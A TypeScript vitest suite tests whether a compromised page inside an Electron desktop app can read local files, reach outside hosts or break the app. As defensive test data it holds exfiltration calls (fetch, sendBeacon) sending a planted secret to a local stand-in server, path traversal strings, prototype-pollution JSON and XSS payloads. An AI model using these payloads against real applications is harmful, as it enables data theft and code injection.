import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { realElectron, recordedCalls } from '../electron-stand-in/launch.ts'
import { appPage } from '../journeys/app-page.ts'
import { type OpenApp, openApp } from './app.ts'

/**
 * A page that somebody else has got hold of: its policy does not bind it (it is switched off here), and it says
 * whatever it likes over the one channel that it has. What it must not do is told by docs/security.md.
 */
const skip = process.env.SOMA_SKIP_BROWSER

describe.skipIf(skip)('a hostile page', () => {
  let app: OpenApp
  let server: Server
  let elsewhere: string
  let asked: string[]
  const folder = mkdtempSync(join(tmpdir(), 'soma-hostile-'))
  const secret = join(folder, 'secret.txt')

  beforeAll(async () => {
    writeFileSync(secret, 'hunter2')
    asked = []
    // It lets every page of the world ask, as an attacker's server would.
    server = createServer(({ url }, reply) => {
      asked.push(url ?? '')
      reply.setHeader('access-control-allow-origin', '*').end('stolen')
    })
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
    elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    app = await openApp()
    await app.window.waitForSelector('#root > *')
    const devTools = await app.window.context().newCDPSession(app.window)
    await devTools.send('Page.setBypassCSP', { enabled: true })
    await app.window.reload()
    await app.window.waitForSelector('#root > *')
  })
  afterAll(async () => {
    await app?.close()
    server?.close()
    rmSync(folder, { recursive: true })
  })

  const inPage = <T>(expression: string): Promise<T> => app.window.evaluate<T>(expression)
  const logged = (): Promise<string> => readFile(join(app.dataDir, 'logs/soma.log'), 'utf8')

  /** What the page gets to see of an address, by each way that there is. */
  const ways = (url: string): Promise<Record<string, string>> =>
    inPage(`(async () => {
      const url = ${JSON.stringify(url)}
      const within = (work) => Promise.race([
        new Promise(work).catch(() => 'refused'),
        new Promise((done) => setTimeout(done, 2000, 'nothing')),
      ])
      const element = (tag, name) => within((done) => {
        const made = document.createElement(tag)
        made.onload = () => done('loaded'); made.onerror = () => done('refused')
        made[name] = url
        if (tag === 'link') made.rel = 'stylesheet'
        document.body.append(made)
      })
      const frame = within((done) => {
        const made = document.createElement('iframe')
        made.onload = () => { try { done(made.contentDocument.body.innerText || 'nothing') } catch { done('closed') } }
        made.src = url
        document.body.append(made)
      })
      const xhr = within((done) => {
        const request = new XMLHttpRequest()
        request.onload = () => done(request.responseText); request.onerror = () => done('refused')
        request.open('GET', url); request.send()
      })
      const worker = within((done) => {
        const made = new Worker(url, { type: 'module' })
        made.onerror = () => done('refused'); made.onmessage = () => done('loaded')
      })
      return {
        fetch: await fetch(url).then((reply) => reply.text()).catch(() => 'refused'),
        xhr: await xhr, image: await element('img', 'src'), script: await element('script', 'src'),
        style: await element('link', 'href'), frame: await frame, worker: await worker,
      }
    })()`)

  test('is not bound by its policy here', async () => {
    await inPage(
      `document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.free = 1' }))`,
    )
    expect(await inPage('window.free')).toBe(1)
  })

  test('reads no file', async () => {
    const seen = await ways(pathToFileURL(secret).href)
    expect(Object.values(seen).join(' ')).not.toContain('hunter2')
    for (const what of ['fetch', 'xhr', 'script', 'style', 'worker'])
      expect([what, seen[what]]).toEqual([what, 'refused'])
  })

  test('finds nothing of ours but the page', async () => {
    for (const path of [
      '/../../package.json',
      '/%2e%2e/main/index.js',
      '/..%2fmain/cli.js',
      '//etc/passwd',
    ]) {
      const status = await inPage<unknown>(
        `fetch(${JSON.stringify(path)}).then(({ status }) => status).catch(() => 'refused')`,
      )
      expect([404, 'refused'], path).toContain(status)
    }
  })

  test('reaches no host, so that it can tell nobody what it has read', async () => {
    const seen = await ways(`${elsewhere}/?read=hunter2`)
    expect(Object.values(seen).join(' ')).not.toContain('stolen')
    await inPage(`void navigator.sendBeacon(${JSON.stringify(`${elsewhere}/beacon`)}, 'hunter2')`)
    await inPage(
      `void fetch(${JSON.stringify(elsewhere)}, { method: 'POST', mode: 'no-cors', body: 'hunter2' }).catch(() => {})`,
    )
    await vi.waitFor(async () => expect(await logged()).toContain('refused a request of the page'))
    expect(asked).toEqual([])
  })

  test('gets neither Node nor a window nor another page', async () => {
    expect(
      await inPage(`['require', 'process', 'Buffer', 'global'].filter((name) => name in window)`),
    ).toEqual([])
    expect(await inPage(`window.open('about:blank')`)).toBeNull()
    expect(await inPage(`window.open(${JSON.stringify(elsewhere)})`)).toBeNull()
    const before = app.window.url()
    await inPage(`void (location.href = ${JSON.stringify(`${elsewhere}/next`)})`)
    await vi.waitFor(async () => expect(await logged()).toContain('refused to navigate'))
    expect([app.window.url(), asked]).toEqual([before, []])
  })

  /** Says it over the channel as it is, and then asks what every page may ask. */
  const say = (
    messages: string,
    /** So many answers are waited for. */
    answers = 0,
  ): Promise<{ replies: { id?: unknown; code?: string }[]; alive: unknown }> =>
    inPage(`(async () => {
      const replies = []
      window.somaPort.onMessage((reply) => replies.push(reply))
      for (const message of ${messages}) { try { window.somaPort.post(message) } catch (error) { replies.push({ code: error.name }) } }
      const id = Math.floor(Math.random() * 1e9)
      window.somaPort.post({ t: 'call', id, path: 'app.info', input: {}, credit: 0 })
      const own = () => replies.filter((reply) => reply.id >= 770000 && reply.id < 780000)
      const isTold = () => replies.some((reply) => reply.id === id) && own().length >= ${answers}
      for (let i = 0; i < 400 && !isTold(); i++) await new Promise((done) => setTimeout(done, 25))
      return { replies: own(), alive: replies.find((reply) => reply.id === id)?.value?.edition }
    })()`)
  const call = (id: number, path: string, input: string) =>
    `{ t: 'call', id: ${id}, path: '${path}', input: ${input}, credit: 0 }`

  test('is told nothing by names that stand in no contract', async () => {
    const names = [
      '__proto__.toString',
      'constructor.constructor',
      'app.__proto__',
      'fs.readFile',
      'shell.openPath',
      'app',
    ]
    const { replies, alive } = await say(
      `[${names.map((name, index) => call(770001 + index, name, '{}')).join(',')}]`,
    )
    expect(alive).toBe('desktop')
    expect(replies.map(({ code }) => code)).toEqual(names.map(() => 'request/unknown-method'))
  })

  test('cannot put a key into the prototype of all objects', async () => {
    const poison = `JSON.parse('{"namespace":"default","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}')`
    const { replies, alive } = await say(
      `[${call(770101, 'memories.page', poison)}, ${call(770102, 'memories.get', poison)}, ${call(770103, 'settings.set', poison)}, JSON.parse('{"t":"call","id":770104,"path":"app.info","input":{},"credit":0,"__proto__":{"polluted":1}}')]`,
    )
    expect(alive).toBe('desktop')
    expect(replies.filter(({ id }) => id !== 770104).map(({ code }) => code)).toEqual(
      Array(3).fill('request/invalid'),
    )
    expect(await app.app.evaluate(() => (Object.prototype as { polluted?: number }).polluted)).toBeUndefined()
  })

  test('is refused with wrong types and too much, and goes on', async () => {
    const { replies, alive } = await say(`[
      null, 7, 'text', [], {}, { t: 'call' }, { t: 'call', id: NaN, path: 'app.info', input: {} }, { t: 'more', id: 1, credit: Infinity },
      ${call(770201, 'memories.get', '{ namespace: 7, id: {} }')},
      ${call(770202, 'memories.get', '[]')},
      ${call(770203, 'recall.search', `{ namespace: 'default', query: 'x'.repeat(3e6) }`)},
      ${call(770204, 'recall.search', `{ namespace: '../../etc', query: 'x', k: -1 }`)},
      ${call(770205, 'memories.page', 'Array.from({ length: 20000 }, (_, i) => ({ i }))')},
    ]`)
    expect(alive).toBe('desktop')
    expect(replies.map(({ code }) => code)).toEqual(Array(5).fill('request/invalid'))
    expect(JSON.stringify(replies)).not.toMatch(/\.js:|node_modules|at Object/)
  })

  test.runIf(!realElectron)(
    'names no host by itself: the system asks, and the page cannot answer',
    async () => {
      const url = `${elsewhere}/v1`
      const asks = [
        call(770301, 'embedders.test', `{ settings: { provider: 'openai', url: '${url}', model: 'm' } }`),
        call(770302, 'settings.set', `{ settings: [{ key: 'telemetry.endpoint', value: '${elsewhere}' }] }`),
        call(770303, 'access.allow', `{ id: 'x', code: 'AAAA-AAAA' }`),
      ]
      const questions = async () =>
        (await recordedCalls(app.app)).filter(({ what }) => what === 'dialog.showMessageBox')
      const { replies, alive } = await say(`[${asks.join(',')}]`, asks.length)
      expect(alive).toBe('desktop')
      const codeOf = (id: number) => replies.find((reply) => reply.id === id)?.code
      expect([codeOf(770301), codeOf(770302), codeOf(770303)]).toEqual([
        ...['reach/refused', 'reach/refused', 'reach/code-wrong'],
      ])
      // After a no nobody is asked again at once, however often the page wants it.
      expect(await questions()).toHaveLength(1)
      const shown = (await questions()).at(0)?.args[0] as {
        detail: string
        buttons: string[]
        defaultId: number
      }
      expect(shown.detail).toContain(`${elsewhere}\nT`)
      expect([shown.buttons, shown.defaultId]).toEqual([['Do not allow', 'Allow'], 0])
      expect(asked).toEqual([])
    },
  )

  test('shows what a hostile file brings as the text that it is', async () => {
    const markup = `zzhostile "><img src=x onerror="window.hacked=1"><script>window.hacked=1</script><svg onload=window.hacked=1>`
    const lines = [
      { coord: [901, 1], payload: { text: markup, [markup]: 'javascript:window.hacked=1', title: markup } },
      {
        coord: [901, 2],
        payload: { text: `zzhostile ${'{{constructor.constructor("window.hacked=1")()}}'}` },
      },
    ]
    const text = lines.map((line) => JSON.stringify({ ...line, type: 'semantic' })).join('\n')
    await inPage(`(() => {
      const dataTransfer = new DataTransfer()
      dataTransfer.items.add(new File([${JSON.stringify(text)}], ${JSON.stringify(`../../${markup}.jsonl`)}))
      window.dispatchEvent(new DragEvent('drop', { dataTransfer, cancelable: true }))
    })()`)
    const page = appPage(app.window)
    const dialog = app.window.getByRole('dialog')
    await dialog.getByRole('button', { name: 'Import 2 memories' }).click()
    await dialog.getByRole('button', { name: 'Undo import' }).waitFor()
    await dialog.getByRole('button', { name: 'Close' }).last().click()
    await page.goTo('Recall')
    await (await page.recall('zzhostile onerror script')).first().click()
    await page.inspector.getByText('onerror').first().waitFor()
    await page.goTo('Memories')
    await page.search.fill('zzhostile')
    await page.table.getByText('onerror').first().waitFor()
    await page.goTo('Activity')
    await app.window.getByText('onerror').first().waitFor()
    expect(await inPage('window.hacked')).toBeUndefined()
    const made = `document.querySelectorAll('img[src=x], [onerror], [onload], a[href^="javascript:"]').length`
    expect(await inPage(made)).toBe(0)
  })
})
